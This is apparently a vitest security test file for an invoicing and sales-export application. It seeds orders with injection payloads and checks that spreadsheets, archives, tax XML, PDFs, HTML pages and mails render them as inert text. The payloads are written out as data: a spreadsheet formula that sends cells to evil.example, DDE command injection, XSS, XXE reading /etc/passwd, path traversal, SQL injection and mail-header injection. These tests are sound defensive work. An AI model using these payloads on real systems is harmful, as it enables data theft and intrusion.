import { afterAll, beforeAll, expect, test } from 'vitest';
import { readXml } from '../src/contract/wire/read-xml.ts';
import type { Store } from '../src/store/index.ts';
import { freshEmbedded } from '../src/testkit/database.ts';
import { type Mailbox, startMailbox } from '../src/testkit/mailbox.ts';
import { readPdf } from '../src/testkit/read-pdf.ts';
import { saleOrder, storeSales } from '../src/testkit/sale.ts';
import { issueDocuments } from '../src/toissue/index.ts';
import { type Browser, owner, type Served, serve } from './api-server.ts';
import { archiveEntries } from './archive-entries.ts';

/**
 * The promise: what a buyer writes into any field of his order is text wherever it turns up: in spreadsheets, archives, tax files, mails,
 * pages and PDFs. Each order carries one attack in every field it has.
 */
const attacks = {
  formula: '=HYPERLINK("http://evil.example/?"&A1,"x")',
  command: "@SUM(1+1)*cmd|' /C calc'!A0",
  hidden: 'a;=1+1\t=2+2\n-3+cmd|x!A0',
  wide: '\uff1d1+1',
  tag: '<script>alert(1)</script><img src=x onerror=alert(1)>',
  quoted: '" onmouseover="alert(1)" \' onfocus=\'alert(1)',
  typst: '#panic("boom") #read("/etc/passwd") $x$ @ref <label> *b* _i_ // c /* d */ `raw` \\ #{1+1}',
  liquid: '{{ seller.name }}{% if true %}ran{% endif %}{{ "x" | append: "y" }}',
  header: 'Anna\r\nBcc: evil@example.com\r\n\r\nbody',
  path: '../../../../etc/passwd\\..\\..\\x/C:\\y',
  markup: ']]><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;&#0;&lt;',
  bidi: '\u202egpj.exe \u2066x',
  control: 'a\u0001\u0008\u001b[31mb\u007f\u0085',
  statement: "'; drop table document; --",
  link: 'https://evil.example/ javascript:alert(1) www.evil.example',
} as const;

let store: Store;
let served: Served;
let olga: Browser;
let mailbox: Mailbox;
const documents: { name: keyof typeof attacks; id: string }[] = [];

beforeAll(async () => {
  store = await freshEmbedded();
  served = await serve(store, { idle: true });
  olga = await owner(served.url);
  mailbox = await startMailbox();
  const { ctx } = served.running.opened;
  const organizationId = olga.organization!;
  const names = Object.keys(attacks) as (keyof typeof attacks)[];
  const sales = await storeSales(
    ctx,
    organizationId,
    names.map((name) => {
      const text = attacks[name];
      return saleOrder({
        externalId: `${name} ${text}`.slice(0, 100),
        number: text,
        buyer: {
          firstName: text,
          lastName: text,
          street: text,
          street2: text,
          postalCode: text.slice(0, 20),
          city: text,
          country: 'PL',
          phone: text,
          taxIds: [],
          email: 'anna@example.com',
          emailKind: 'direct',
        },
        delivery: { gross: '12.99', method: text, tracking: [] },
        lines: [
          { id: '1', kind: 'goods', name: text, sku: text, unit: text.slice(0, 10), quantity: '2', unitGross: '50.00', gross: '100.00' },
        ],
        messages: { fromBuyer: text } as never,
      });
    }),
  );
  const issued = await issueDocuments(
    ctx,
    { organizationId, actor: 'test' },
    sales.map((sale) => sale.documentId),
  );
  // One without a document, for the sheet of what is missing.
  const text = attacks.formula;
  await storeSales(ctx, organizationId, [
    saleOrder({ externalId: text, number: text, buyer: { ...saleOrder().buyer, firstName: text, lastName: text } as never }),
  ]);
  for (const [i, result] of issued.entries()) {
    expect(result.outcome, `${names[i]} ${JSON.stringify(result)}`).toBe('issued');
    documents.push({ name: names[i]!, id: sales[i]!.documentId });
  }
}, 120_000);
afterAll(async () => {
  await mailbox?.close();
  await served?.stop();
  await store?.close();
});

const days = {
  from: new Date(Date.now() - 40 * 86_400_000).toISOString().slice(0, 10),
  to: new Date(Date.now() + 86_400_000).toISOString().slice(0, 10),
};
const today = new Date().toISOString().slice(0, 10);
const thisMonth = { from: `${today.slice(0, 7)}-01`, to: today };

/** Cells of a text as a spreadsheet of either habit parts it, quotes or not. */
function cellsOf(text: string): string[] {
  const cells: string[] = [];
  for (const line of text.replace(/^\ufeff/, '').split(/\r\n|\r|\n/))
    for (const separator of [',', ';', '\t']) cells.push(...line.split(separator).map((cell) => cell.replace(/^"+|"+$/g, '')));
  return cells;
}

const isNumber = /^-?[\d\s\u00a0]*([.,]\d+)?\s?%?$/;

function noFormula(text: string, where: string): void {
  for (const cell of cellsOf(text)) if (!isNumber.test(cell)) expect(cell, `${where}: ${cell}`).not.toMatch(/^[=+@\uff1d\uff0b\uff20-]/);
}

test('no cell of any spreadsheet begins a formula', async () => {
  for (const address of ['/documents/export.csv?', `/completeness.csv?from=${days.from}&to=${days.to}`]) {
    const answer = await olga.get(address);
    expect(answer.status, answer.text.slice(0, 200)).toBe(200);
    expect(answer.text).toContain('HYPERLINK');
    noFormula(answer.text, address);
  }
  const workbook = await olga.get('/documents/export.xlsx');
  for (const { name, bytes } of await archiveEntries(workbook.body)) {
    // Formulas are elements of their own; text cells are never run.
    expect(bytes.toString('utf8'), name).not.toMatch(/<f[ >]/);
    readXml(bytes.toString('utf8'));
  }
  const pack = await olga.get(`/books/pack.zip?from=${thisMonth.from}&to=${thisMonth.to}`);
  expect(pack.status, pack.text.slice(0, 300)).toBe(200);
  const entries = await archiveEntries(pack.body);
  expect(entries.some(({ name }) => name.endsWith('.csv'))).toBe(true);
  for (const { name, bytes } of entries) {
    if (name.endsWith('.csv')) noFormula(bytes.toString('utf8'), name);
    if (name.endsWith('.xml')) readXml(bytes.toString('utf8'));
    if (name.endsWith('.xlsx'))
      for (const part of await archiveEntries(bytes)) expect(part.bytes.toString('utf8'), part.name).not.toMatch(/<f[ >]/);
  }
});

test('names inside archives stay inside', async () => {
  for (const address of ['/documents/archive.zip', `/books/pack.zip?from=${thisMonth.from}&to=${thisMonth.to}`]) {
    const entries = await archiveEntries((await olga.get(address)).body);
    expect(entries.length).toBeGreaterThan(3);
    for (const { name } of entries) {
      expect(name).not.toMatch(/\.\.|^[/\\]|^[A-Za-z]:|[\u0000-\u001f\u202a-\u202e\u2066-\u2069]/);
      expect(name).not.toContain('\\');
    }
    expect(new Set(entries.map(({ name }) => name.toLowerCase())).size).toBe(entries.length);
  }
});

test('tax files stay well-formed, with the text as text', async () => {
  expect((await olga.send('PUT', '/books/profile', { taxOffice: '1471', email: 'a@shop.example' })).status).toBe(200);
  for (const file of ['v7', 'fa']) {
    const answer = await olga.get(`/books/${file}.xml?month=${today.slice(0, 7)}`);
    if (answer.status === 422) continue;
    expect(answer.status, answer.text.slice(0, 300)).toBe(200);
    readXml(answer.text);
    expect(answer.text).not.toMatch(/<!DOCTYPE|<!ENTITY|<script/i);
  }
});

test('a PDF shows what was written and runs nothing of it', async () => {
  for (const { name, id } of documents) {
    const answer = await olga.get(`/documents/${id}/pdf`);
    expect(answer.status, `${name} ${answer.text.slice(0, 200)}`).toBe(200);
    const pdf = readPdf(answer.body);
    expect(pdf.structure, name).not.toMatch(/\/JavaScript|\/JS\b|\/Launch|\/OpenAction|\/SubmitForm/);
    expect(
      pdf.links.filter((link) => link.includes('evil')),
      name,
    ).toEqual([]);
    expect(pdf.text).not.toMatch(/root:x:0|boom"?\)? at /);
    const letters = pdf.text.replace(/\s+/g, '');
    if (name === 'typst') for (const word of ['#panic(', '/etc/passwd', '*b*', '`raw`']) expect(letters).toContain(word);
    if (name === 'liquid') expect(letters).toContain('{%iftrue%}');
    expect(answer.headers.get('content-disposition')).toMatch(/^inline; filename="[^"\r\n/\\]+"; filename\*=UTF-8''[\w%.~!$&'()*+-]+$/);
  }
}, 60_000);

/** Tags and attributes of a page as a browser would find them, by a strict reader of what it must consist of. */
function harmless(html: string, where: string): void {
  expect(html, where).not.toMatch(/<(script|img|iframe|object|embed|svg|link|base|form|input|video|audio)\b/i);
  for (const [tag] of html.matchAll(/<[a-z][^>]*>/gi)) expect(tag, where).not.toMatch(/\son\w+\s*=|javascript:/i);
  expect(html).not.toContain('\u202e');
}

test('case files and mails are pages without anything of the buyer but letters', async () => {
  for (const { name, id } of documents) {
    const page = await olga.get(`/documents/${id}/case-file.html`);
    expect(page.status).toBe(200);
    harmless(page.text, `case file ${name}`);
    const preview = await olga.post('/mail-templates/preview', {
      subject: 'Dokument {{ buyer.name }} {{ order.number }}',
      body: 'Dzień dobry {{ buyer.name }}, zamówienie {{ order.number }}',
      kind: 'invoice',
      language: 'pl',
      documentId: id,
    });
    expect(preview.status, preview.text.slice(0, 300)).toBe(200);
    if (preview.body.html) harmless(preview.body.html, `mail ${name}`);
    expect(preview.body.subject ?? '').not.toMatch(/[\r\n]/);
    if (name === 'liquid') expect(preview.text).toContain('{% if true %}');
    if (name === 'link') expect(preview.body.html).not.toMatch(/href="[^"]*evil/);
  }
});

test('a mail carries no line of the buyer in its head, and a file of a plain name', async () => {
  const account = { host: mailbox.host, port: mailbox.port, security: 'none', fromName: 'S', fromAddress: 'sklep@shop.example' };
  expect((await olga.send('PUT', '/mail-settings', account)).status).toBe(200);
  for (const name of ['header', 'path', 'bidi'] as const) {
    const { id } = documents.find((one) => one.name === name)!;
    const document = (await olga.get(`/documents/${id}`)).body;
    const sent = await olga.post('/mail-templates/test', {
      subject: 'Dokument {{ buyer.name }}',
      body: '{{ buyer.name }}',
      kind: 'invoice',
      language: 'pl',
      documentId: id,
      to: 'owner@shop.example',
    });
    expect(sent.status, sent.text.slice(0, 300)).toBeLessThan(300);
    expect(document.number).toBeTruthy();
  }
  const mails = await mailbox.arrived(3);
  for (const mail of mails) {
    expect(mail.recipients).toEqual(['owner@shop.example']);
    expect(mail.subject).not.toMatch(/[\r\n]/);
    for (const file of mail.files) expect(file.fileName).toMatch(/^[\p{L}\p{N} ._()-]+$/u);
  }
});
